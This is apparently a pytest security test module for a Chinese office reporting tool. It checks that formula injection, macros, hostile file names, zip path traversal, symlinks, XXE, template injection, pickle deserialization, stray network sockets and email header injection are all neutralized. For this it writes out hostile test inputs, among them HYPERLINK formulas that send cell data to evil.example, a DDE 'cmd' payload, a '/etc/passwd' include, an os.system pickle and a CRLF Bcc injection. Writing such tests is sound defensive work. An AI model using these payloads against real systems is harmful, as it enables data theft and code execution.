"""Attacks, through what users of the program touch: returned files, their names, templates, requests, other users, the network.

What each is about stands in docs/security.md.
"""

from __future__ import annotations

import contextlib
import email
import email.policy
import gzip
import io
import json
import os
import pickle
import re
import signal
import stat
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from support import ROOT, calc, damage, live, programs
from support.office import PENDING_LIST, Filled, Office, pending_rows, run

from xlplan.files.apart import judging, messages, pool
from xlplan.files.look.kinds import DOCUMENTS
from xlplan.files.papers.word_file import fill_word
from xlplan.files.store.shipped import template
from xlplan.files.store.writing import write_whole
from xlplan.office.setup import helper_log
from xlplan.terms.errors import TemplateError

EVIL = "evil.example"
# First characters by which Excel, WPS or Calc take a typed text, or one of a CSV file, for a formula.
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    " =",
    "=cmd|' /C calc'!A0+",
    "@SUM(1)*",
)
FREE = ("progress", "problems", "next", "evidence")
SETTINGS = {"round": "2023年第二季度", "deadline": "2023-06-20"}

linux = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="looks at what Linux tells of processes")


def hostile(number: int) -> str:
    """Return a text that would call home, were it a formula."""
    return f'{STARTS[number % len(STARTS)]}HYPERLINK("http://{EVIL}/"&A1,"第{number}处")'


def fill_hostile(filled: Filled) -> None:
    """Fill every field of a department with a text that begins like a formula."""
    cells = [filled.cell(task, name) for task in filled.tasks for name in FREE]
    for number, cell in enumerate([*cells, *(filled.person(label) for label in ("填报人", "联系电话", "审核人"))]):
        cell.value = "x"
        cell.value = hostile(number)
        cell.data_type = "s"
    first = next(iter(filled.tasks))
    # Not one of the states, so that the office is asked.
    filled.cell(first, "state").value = "x"
    filled.cell(first, "state").value = hostile(0)
    filled.cell(first, "state").data_type = "s"


def parts(path: Path) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            yield name, package.read(name)


def assert_no_formula(path: Path) -> None:
    """Assert that nothing that departments wrote is run, or links anywhere, in a workbook or a Word paper."""
    for name, part in parts(path):
        text = part.decode("utf-8", "replace")
        if name.endswith(".rels"):
            assert EVIL not in text, (path, name)
        for found in re.findall(r"<(?:\w+:)?(?:f|formula\d?|instrText|definedName)[ >].*?</|<w:fldSimple[^>]*>", text):
            assert EVIL not in found, (path, name, found)


@pytest.fixture(scope="module")
def hostile_office(tmp_path_factory: pytest.TempPathFactory) -> Office:
    works = Office.small(
        tmp_path_factory.mktemp("hostile"), settings=SETTINGS, emails={"教育科": "a@b.cn", "一小": "c@d.cn"}
    )
    works.do("split")
    for department in ("教育科", "组宣科"):
        works.answer(department, edit=fill_hostile)
    # The office is told of each.
    merged = works.json("merge")["files"]
    assert all("return-formula-text" in {reason["code"] for reason in file["reasons"]} for file in merged)
    assert pending_rows(works)
    for verb in ("status", "remind"):
        assert works.do(verb).code in (0, 1)
    assert run("yearly", works.book).code == 0
    # What was reported stands in the sheets of the next round.
    assert Office(works.book, "2023年第三季度").do("split").code in (0, 1)
    return works


class TestTextsLikeFormulas:
    """Whatever a department writes stays text, in every file that is written."""

    def written(self, hostile_office: Office, *suffixes: str) -> list[Path]:
        found = [
            each
            for place in ("下发", "退回", "汇总")
            for each in (hostile_office.root / place).rglob("*")
            if each.suffix in suffixes
        ]
        assert found
        return found

    def test_no_workbook_and_no_paper_has_it_as_a_formula_or_a_link(self, hostile_office: Office) -> None:
        holding = 0
        for path in self.written(hostile_office, ".xlsx", ".docx"):
            assert_no_formula(path)
            holding += any(EVIL.encode() in part for _, part in parts(path))
        # The status, the list of what is open, the sheets sent back and those of the next round show what was written.
        assert holding >= 5

    def test_calc_shows_it_as_text(self, hostile_office: Office, tmp_path: Path, needs_calc: None) -> None:
        reports = hostile_office.root / "汇总" / hostile_office.round
        sheets = [
            reports / "进展汇总.xlsx",
            reports / PENDING_LIST,
            *(hostile_office.root / "退回" / hostile_office.round).glob("*.xlsx"),
        ]
        assert len(sheets) > 2
        for opened in calc.convert_many(sheets, "fods", tmp_path):
            text = opened.read_text("utf-8")
            assert EVIL in text
            assert not [each for each in re.findall(r'table:formula="[^"]*"', text) if EVIL in each]
            assert not [each for each in re.findall(r'xlink:href="[^"]*"', text) if EVIL in each]

    def test_the_page_as_pdf_shows_text_without_links(
        self, hostile_office: Office, tmp_path: Path, needs_calc: None
    ) -> None:
        page = calc.convert(hostile_office.root / "汇总" / hostile_office.round / "进展汇总.xlsx", "pdf", tmp_path)
        assert f"/URI (http://{EVIL}".encode() not in page.read_bytes()

    def test_no_text_for_pasting_has_a_line_that_begins_so(self, hostile_office: Office) -> None:
        lines = [
            line for path in self.written(hostile_office, ".txt") for line in path.read_text("utf-8-sig").splitlines()
        ]
        assert not [line for line in lines if EVIL in line and line.startswith(STARTS)]

    def test_mails_are_plain_text_to_the_one_they_are_for(self, hostile_office: Office) -> None:
        for path in self.written(hostile_office, ".eml"):
            mail = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
            assert set(mail.keys()) <= {
                "X-Unsent",
                "To",
                "Subject",
                "MIME-Version",
                "Content-Type",
                "Content-Transfer-Encoding",
            }
            assert {part.get_content_type() for part in mail.walk()} <= {
                "multipart/mixed", "text/plain", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            }  # fmt: skip


def test_the_buttons_write_it_as_text_into_the_open_workbook(tmp_path: Path, needs_calc: None) -> None:
    """In a real Calc: Excel is told the same way (a leading apostrophe), and cannot run here."""
    with live.running(tmp_path / "profile") as app:
        path = live.in_an_office(tmp_path)
        book = app.books.open(path)
        live.done(book, "split")
        for number, department in enumerate(("教育科", "组宣科", "进修学校")):
            live.answer(path, department, **{name: hostile(number * 4 + at) for at, name in enumerate(FREE)})
        for verb in ("merge", "status"):
            live.press(book, verb, live.TAKEN_IN)
        shown = 0
        for sheet in book.sheets:
            used = sheet.used_range
            values = used.value if isinstance(used.value, list) else [[used.value]]
            formulas = used.formula if isinstance(used.formula, list | tuple) else [[used.formula]]
            cells = used.api.queryFormulaCells(7).getRangeAddresses()
            for area in cells:
                for row in range(area.StartRow, area.EndRow + 1):
                    for column in range(area.StartColumn, area.EndColumn + 1):
                        assert EVIL not in sheet.api.getCellByPosition(column, row).getFormula()
            shown += sum(EVIL in str(value) for row in values for value in (row if isinstance(row, list) else [row]))
            assert formulas is not None
        assert shown > 3


@pytest.fixture
def works(tmp_path: Path) -> Office:
    """Set up a small office that has handed out."""
    office = Office.small(tmp_path, settings=SETTINGS)
    office.do("split")
    return office


def verdicts(works: Office) -> dict[str, tuple[str, list[str]]]:
    return {
        file["path"].rpartition("/")[2]: (file["verdict"], [reason["code"] for reason in file["reasons"]])
        for file in works.json("merge")["files"]
    }


class TestMacros:
    """Where LibreOffice trusts the workbook's folder, it runs macros of returned files as well: the office is warned."""

    @staticmethod
    def with_part(path: Path, name: str, data: bytes, content_type: str = "") -> None:
        old = dict(parts(path))
        if content_type:
            kind = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
            old["[Content_Types].xml"] = old["[Content_Types].xml"].replace(b"</Types>", kind)
        with zipfile.ZipFile(path, "w") as package:
            for each, part in (old | {name: data}).items():
                package.writestr(each, part)

    def test_a_return_with_macros_is_noted_and_nothing_of_it_runs(self, works: Office) -> None:
        vba = works.answer("教育科")
        # Under a name that tells nothing: its type alone is what programs go by.
        self.with_part(vba, "xl/theme/theme9.xml", b"x", "application/vnd.ms-office.vbaProject")
        works.answer("组宣科")
        found = verdicts(works)
        assert "return-macros" in found[vba.name][1]
        assert found[vba.name][0] == "noted"
        works.do("status")
        pending_rows(works)
        reports = list((works.root / "汇总").rglob("*.xlsx"))
        for name, part in ((name, part) for report in reports for name, part in parts(report)):
            assert not name.endswith(".rels") or quote(vba.name).encode() not in part
            assert not name.endswith(".rels") or vba.name.encode() not in part
        assert "return-macros" not in found[works.sheet_of("组宣科").name][1]

    def test_those_of_an_open_document_and_of_an_old_workbook_too(
        self, works: Office, tmp_path: Path, needs_calc: None
    ) -> None:
        source = works.answer("教育科")
        plain = calc.convert(source, "ods", works.returned)
        with_basic = plain.with_name("教育科-带宏.ods")
        with_basic.write_bytes(plain.read_bytes())
        self.with_part(with_basic, "Basic/Standard/Module1.xml", b"<x/>")
        source.unlink()
        found = verdicts(works)
        assert "return-macros" not in found[plain.name][1]
        assert "return-macros" in found[with_basic.name][1]


class TestNames:
    """A file's name is not of our making either."""

    def test_a_click_on_a_link_runs_nothing(self, works: Office) -> None:
        path = works.answer("教育科")
        path.rename(path.with_suffix(".hta"))
        (works.returned / "组宣科-盖章.png.hta").write_bytes(b"\x89PNG\r\n\x1a\n<script>1</script>")
        assert {verdict for verdict, _ in verdicts(works).values()} <= {"accepted", "noted", "skipped"}
        works.do("status")
        run("yearly", works.book)
        pending_rows(works)
        for report in (works.root / "汇总").rglob("*.xlsx"):
            for name, part in parts(report):
                if name.endswith(".rels") or b"HYPERLINK" in part:
                    assert b".hta" not in part.replace(b"%2E", b"."), (report, name)
        kept = {each.suffix for each in (works.root / "归档").iterdir() if each.is_file()} - {".json"}
        assert kept <= {*DOCUMENTS, ""}

    def test_two_rounds_never_share_a_folder(self, works: Office) -> None:
        assert Office(works.book, "6/7").do("split").code < 2
        before = {path: path.read_bytes() for path in (works.root / "下发").rglob("*.xlsx")}
        for name in ("6_7", "6:7"):
            refused = Office(works.book, name).do("split", "--json")
            assert (refused.code, refused.json["error"]["code"]) == (2, "unknown-round")
        assert Office(works.book, "6/7").do("split").code < 2
        assert {path: path.read_bytes() for path in (works.root / "下发").rglob("*.xlsx")} == before

    def test_what_a_terminal_shows_does_not_steer_it(self, works: Office) -> None:
        path = works.answer("教育科")
        path.rename(path.with_name("\x1b]0;x\x07\x1b[2J教育科\u202excod\n应报送的部门都已报送。.xlsx"))
        (works.returned / "\x9b31m.txt").touch()
        for done in (works.do("merge"), works.do("status"), run("history", works.book, "1.1")):
            assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", done.out + done.err)
            assert "\n应报送的部门都已报送。.xlsx" not in done.out
        again = works.do("merge", "--json")
        assert not re.search("[\x7f-\x9f\u202a-\u202e]", again.out)
        assert any("\x1b]0;x" in file["path"] for file in again.json["files"])

    def test_a_department_turns_no_text_round_and_widens_no_table(self, tmp_path: Path) -> None:
        turned, long = "教育\u202e科", "很长" * 30
        rows = [
            ("1.1", "甲工程", "修订办法。", turned, long, "2023年12月底前"),
            ("1.2", "甲工程", "培训。", long, "", "常规工作"),
        ]
        offices = [(turned, "科室", ""), (long, "其他", "")]
        works = Office.small(tmp_path, rows=rows, offices=offices, emails={turned: "a@example.cn"})
        for done in (works.do("split"), works.do("remind")):
            assert "\n教育\\u202e科 " in done.out and f"\n{'很长' * 11}很…  " in done.out
            assert "\u202e" not in done.out and long not in done.out.replace(f"/{long}", "")
        texts = {path.name: path.read_text("utf-8-sig") for path in works.root.rglob("*.txt")}
        assert {"群通知.txt", "教育科-通知.txt", "催报-群通知.txt", "教育科-催报.txt"} <= texts.keys()
        for path in works.root.rglob("*.eml"):
            mail = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
            body = mail.get_body()
            assert body
            texts[path.name] = f"{mail['Subject']}\n{body.get_content()}"
        for name, text in texts.items():
            assert "\u202e" not in text, name
            assert name.startswith("很长") or "教育\\u202e科" in text, name

    def test_an_entry_in_the_log_cannot_be_forged(self, tmp_path: Path) -> None:
        before = list(helper_log.log.handlers)
        helper_log.log_to(tmp_path / "data")
        try:
            helper_log.log.info("merge: %s", "“a\n2026-01-01 00:00:00,000 INFO accepted f0: undo\x1b[2J”")
        finally:
            for handler in list(helper_log.log.handlers):
                helper_log.log.removeHandler(handler)
                handler.close()
            for handler in before:
                helper_log.log.addHandler(handler)
        lines = (tmp_path / "data" / helper_log.LOG_NAME).read_text("utf-8").splitlines()
        assert len(lines) == 2
        assert lines[1].startswith("    ")
        assert "\x1b" not in lines[1]

    def test_links_fifos_and_devices_are_not_read(self, works: Office, tmp_path: Path) -> None:
        outside = tmp_path / "outside"
        outside.mkdir()
        (outside / "secret.xlsx").write_bytes(works.answer("教育科").read_bytes())
        for name, target in {"a.xlsx": outside / "secret.xlsx", "b.xlsx": Path("/dev/zero"), "c": outside}.items():
            (works.returned / name).symlink_to(target)
        os.mkfifo(works.returned / "d.xlsx")
        found = verdicts(works)
        assert {found[name][0] for name in ("a.xlsx", "b.xlsx", "c", "d.xlsx")} == {"skipped"}
        assert "secret.xlsx" not in found

    def test_names_in_a_zip_file_lead_nowhere(self, works: Office, tmp_path: Path) -> None:
        data = works.answer("教育科").read_bytes()
        with zipfile.ZipFile(works.returned / "打包.zip", "w") as package:
            for name in ("../../../逃.xlsx", "/tmp/逃.xlsx", "C:\\逃.xlsx", "..\\..\\逃.xlsx"):
                package.writestr(name, data + b"\0" * len(name))
        before = set(tmp_path.rglob("*逃*"))
        works.do("merge")
        assert set(tmp_path.rglob("*逃*")) == before == set()
        assert not Path("/tmp/逃.xlsx").exists()

    def test_a_link_in_the_working_folder_is_not_written_through(self, works: Office, tmp_path: Path) -> None:
        precious = tmp_path / "precious"
        precious.write_text("mine")
        (works.root / ".正在使用.txt").symlink_to(precious)
        report = works.root / "汇总" / works.round / "进展汇总.xlsx"
        report.parent.mkdir(parents=True, exist_ok=True)
        report.symlink_to(precious)
        works.do("merge")
        works.do("status")
        assert precious.read_text() == "mine"
        assert not report.is_symlink()


class TestSecrets:
    """The key that signs and the office's passwords lie where they belong, and nowhere else."""

    PASSWORD = "口令-7Q-很长"

    def everything(self, works: Office) -> Iterator[tuple[Path, bytes]]:
        for path in works.book.parent.rglob("*"):
            if not path.is_file() or path.name in ("密码.txt", "签名密钥.json") or path == works.ledger:
                continue
            data = path.read_bytes()
            yield path, gzip.decompress(data) if path.suffix == ".gz" else data
            if zipfile.is_zipfile(path):
                yield from ((path, part) for _, part in parts(path))

    def test_neither_is_in_any_other_file_nor_in_what_is_printed(self, works: Office, tmp_path: Path) -> None:
        (works.root / "密码.txt").write_text(f"{self.PASSWORD}\n另一个口令\n", "utf-8")
        path = works.answer("教育科")
        path.write_bytes(damage.encrypted(path.read_bytes(), self.PASSWORD))
        locked = works.answer("组宣科")
        locked.write_bytes(damage.encrypted(locked.read_bytes(), "无人知道"))
        printed = [works.do(verb) for verb in ("merge", "status", "remind", "merge")]
        key = json.loads((works.root / "归档/签名密钥.json").read_text("utf-8"))["key"]
        said = "".join(done.out + done.err for done in printed)
        for secret in (self.PASSWORD, "另一个口令", key):
            assert secret not in said
            for path, data in self.everything(works):
                for form in (secret.encode(), secret.encode("utf-16-le"), json.dumps(secret)[1:-1].encode()):
                    assert form not in data, path
        for path, data in self.everything(works):
            assert bytes.fromhex(key) not in data, path

    @linux
    @pytest.mark.parametrize("umask", [0o022, 0o077])
    def test_others_read_neither_key_nor_ledger_and_the_umask_counts(self, tmp_path: Path, umask: int) -> None:
        before = os.umask(umask)
        # Readers write as the program does that started them.
        pool.end_all()
        try:
            works = Office.small(tmp_path, settings=SETTINGS)
            works.do("split")
            works.answer("教育科")
            works.do("merge")
            works.do("status")
        finally:
            os.umask(before)
            pool.end_all()
        assert works.ledger.stat().st_mode & 0o007 == 0
        assert (works.root / "归档/签名密钥.json").stat().st_mode & 0o077 == 0
        loose = [each for each in works.root.rglob("*") if each.stat().st_mode & umask]
        assert not loose

    @linux
    def test_a_ledger_of_an_earlier_version_is_closed_to_others(self, works: Office) -> None:
        works.ledger.chmod(0o644)
        works.do("merge")
        assert works.ledger.stat().st_mode & 0o777 == 0o640

    @linux
    def test_a_secret_file_is_secret_from_its_first_byte(self, tmp_path: Path) -> None:
        modes = []

        def content() -> Iterator[bytes]:
            modes.extend(each.stat().st_mode & 0o777 for each in tmp_path.iterdir())
            yield b"x"

        write_whole(tmp_path / "key", content, 0o600)
        assert modes == [0o600]
        assert (tmp_path / "key").stat().st_mode & 0o777 == 0o600


class TestTemplates:
    """A template may have come from somebody else."""

    def changed(self, folder: Path, change: Callable[[str], str]) -> None:
        name = "催办单.docx"
        data = io.BytesIO(template(name, folder / "none").read_bytes())
        with zipfile.ZipFile(data) as old, zipfile.ZipFile(folder / name, "w") as new:
            for each in old.namelist():
                part = old.read(each)
                new.writestr(each, change(part.decode()) if each == "word/document.xml" else part)

    def filled(self, folder: Path) -> str:
        values: Mapping[str, Any] = {"催办": []}
        with zipfile.ZipFile(io.BytesIO(fill_word("催办单.docx", folder, values))) as package:
            return package.read("word/document.xml").decode()

    def test_an_entity_brings_in_no_other_file(self, tmp_path: Path) -> None:
        (tmp_path / "secret").write_text("TOPSECRET")
        entity = f'<!DOCTYPE w [<!ENTITY e SYSTEM "{(tmp_path / "secret").as_uri()}">]><w:document'
        self.changed(
            tmp_path,
            lambda text: text.replace("<w:document", entity, 1).replace(
                "</w:body>", "<w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body>"
            ),
        )
        with contextlib.suppress(TemplateError):
            assert "TOPSECRET" not in self.filled(tmp_path)

    @pytest.mark.parametrize(
        "said",
        ["{{ 催办.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{{ ''.__class__ }}", "{% import 'os' as o %}"],
    )
    def test_placeholders_run_nothing(self, tmp_path: Path, said: str) -> None:
        self.changed(
            tmp_path, lambda text: text.replace("</w:body>", f"<w:p><w:r><w:t>{said}</w:t></w:r></w:p></w:body>")
        )
        with pytest.raises(TemplateError):
            self.filled(tmp_path)


class TestWorkers:
    """A worker that a file has taken over gets nothing across but readings."""

    @pytest.mark.parametrize(
        ("module", "name"),
        [
            ("os", "system"), ("builtins", "eval"), ("xlplan.terms.errors", "__builtins__"), ("datetime", "sys"),
            ("xlplan.files.apart.read_one", "read_returned"), ("xlplan.files.apart.read_one", "PurePath"), ("xlplan.returns.reading", "re"),
        ],
    )  # fmt: skip
    def test_what_it_names_is_not_called(self, module: str, name: str) -> None:
        packed = (
            b"\x80\x04" + pickle.GLOBAL + f"{module}\n{name}\n".encode() + pickle.EMPTY_TUPLE + pickle.REDUCE + b"."
        )
        with pytest.raises(pickle.UnpicklingError):
            messages.ReadOrder((), (), 1).load(packed, messages.File("一.xlsx", b""))

    @pytest.mark.parametrize("said", [b"abc", b"\x80\x04b.", b"\x80\x04N."])
    def test_what_is_no_message_is_refused_whatever_it_is(self, said: bytes) -> None:
        with pytest.raises(pickle.UnpicklingError):
            messages.ReadOrder((), (), 1).load(said, messages.File("一.xlsx", b""))

    def test_a_message_longer_than_any_is_not_waited_for(self) -> None:
        with pytest.raises(ValueError, match="bytes"):
            messages.receive_bytes(io.BytesIO(b"\xff" * 8))
        assert messages.receive_bytes(io.BytesIO(struct.pack("<Q", 4) + b"abc")) is None

    @pytest.mark.parametrize(
        "said",
        [
            {0: "taken"}, {1: 3}, {2: True}, {3: {"filler": 1}}, {3: {"__class__": "x"}}, {4: [["a"]]}, {4: [["a", "error", 1, None, None, "", "", None, "", "", ""]]},
            {5: None}, {6: [1]}, {7: [1]}, {7: ["1", True, True]}, {8: [["1.1"]]}, {8: [["1.1", "A6", *[None] * 8, 5]]},
            {8: [["1.1", "A6", None, "没有", *[None] * 6, "I6"]]}, {8: [["1.1", "A6", "x", *[None] * 7, "I6:day"]]}, {9: [["1.1", "os", "A6", "x", None, None]]},
            {9: [["1.1", "state", "A6", "x", "y", "day"]]}, {10: [b"".decode()]}, {10: [1, 2]}, [], {}, "x", None,
        ],
    )  # fmt: skip
    def test_an_answer_is_texts_and_numbers_where_they_belong(self, said: Any) -> None:
        row = ["1.1", "A6", "推进中", "0.5", *[None] * 6, "H6,I6"]
        parts: list[Any] = [
            "accepted",
            "教育科",
            1,
            {"filler": "王"},
            [],
            "任务表",
            [],
            [1, False, True],
            [row],
            [],
            None,
            False,
        ]
        assert judging.loads(json.dumps(parts).encode(), "一.xlsx", "").rows == [row]
        wrong = [said.get(place, part) for place, part in enumerate(parts)] if isinstance(said, dict) and said else said
        with pytest.raises(ValueError):
            judging.loads(json.dumps(wrong).encode(), "一.xlsx", "")


@linux
class TestNetwork:
    """No command and no helper opens a socket to anywhere but this computer's own programs."""

    def traced(self, trace: Path, *words: object, **environ: str) -> subprocess.Popen[bytes]:
        programs.require("strace")
        return subprocess.Popen(
            ["strace", "-f", "-qq", "--seccomp-bpf", "-e", "trace=socket", "-e", "signal=none", "-o", trace, sys.executable, *map(str, words)],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=os.environ | {"PYTHONPATH": str(ROOT)} | environ,
        )  # fmt: skip

    def assert_quiet(self, trace: Path) -> None:
        opened = [line for line in trace.read_text("utf-8", "replace").splitlines() if "socket(" in line]
        assert not [line for line in opened if "AF_UNIX" not in line]

    def test_commands_open_no_socket(self, works: Office, tmp_path: Path) -> None:
        works.answer("教育科")
        home = tmp_path / "home"
        home.mkdir()
        commands = [
            *([verb, str(works.book), "--round", works.round] for verb in ("split", "merge", "status", "remind")),
            *([verb, str(works.book)] for verb in ("validate", "yearly", "rebuild", "undo", "doctor", "install")),
            ["history", str(works.book), "1.1"], ["schedule", "每周一查"], ["new", str(tmp_path / "新.xlsm")], ["uninstall"],
        ]  # fmt: skip
        script = (
            "import sys, json\nfrom xlplan.cli import command_line\n"
            "for words in json.loads(sys.argv[1]):\n"
            "    try:\n        command_line(words)\n    except SystemExit as end:\n        assert end.code in (0, 1), words\n"
        )
        trace = tmp_path / "trace"
        process = self.traced(
            trace, "-c", script, json.dumps(commands), HOME=str(home), XLPLAN_REQUESTS=str(home / "r")
        )
        _, said = process.communicate(timeout=300)
        assert process.returncode == 0, said
        if calc_here := (works.root / "汇总" / works.round / "进展汇总.pdf").exists():
            # LibreOffice was watched when it made this one too.
            assert "AF_UNIX" in trace.read_text("utf-8", "replace")
        assert calc_here or not programs.shutil.which("soffice")
        self.assert_quiet(trace)

    def test_the_helper_opens_none_and_what_it_keeps_is_the_users_own(self, tmp_path: Path) -> None:
        home, requests, trace = tmp_path / "home", tmp_path / "requests", tmp_path / "trace"
        home.mkdir()
        environ = {"HOME": str(home), "XLPLAN_REQUESTS": str(requests), "XDG_DATA_HOME": str(home / "data")}
        process = self.traced(trace, "-m", "xlplan", "helper", "--no-window", **environ)
        data = home / "data/xlplan"
        nonce = "f" + "0" * 31
        try:
            wait_for(lambda: (data / helper_log.LOG_NAME).exists() and requests.is_dir())
            said = f"protocol=1\nnonce={nonce}\nverb=nothing\nversion=0\nhost=x\nos=x\n"
            (requests / f"{nonce}.tmp").write_text(said)
            (requests / f"{nonce}.tmp").rename(requests / f"{nonce}.request")
            wait_for((requests / f"{nonce}.answer").exists)
            for folder in (data, requests):
                assert stat.S_IMODE(folder.stat().st_mode) == 0o700
        finally:
            pid = json.loads((data / "helper.json").read_text())["pid"]
            os.kill(pid, signal.SIGTERM)
            process.communicate(timeout=60)
        self.assert_quiet(trace)


def wait_for(condition: Callable[[], object], seconds: float = 60.0) -> None:
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end, "waited in vain"
        time.sleep(0.05)


@linux
def test_other_users_cannot_connect_to_the_calc_that_listens(tmp_path: Path, needs_calc: None) -> None:
    """Whoever can connect can do anything in the user's name."""
    with live.running(tmp_path / "profile"):
        pipes = list(Path("/tmp").glob(f"OSL_PIPE_{os.getuid()}_xlwings-*"))
        assert pipes
        assert not [each for each in pipes if each.stat().st_mode & 0o002]


def test_a_line_break_in_an_address_begins_no_header(tmp_path: Path) -> None:
    works = Office.small(
        tmp_path,
        settings=SETTINGS,
        emails={"教育科": "a@b.cn\r\nBcc: evil@evil.example", "组宣科": "c@d.cn,x\x7f@y.cn"},
    )
    works.do("split")
    mails = list((works.handed_out / "通知").glob("*.eml"))
    assert mails
    for path in mails:
        mail = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert "Bcc" not in mail
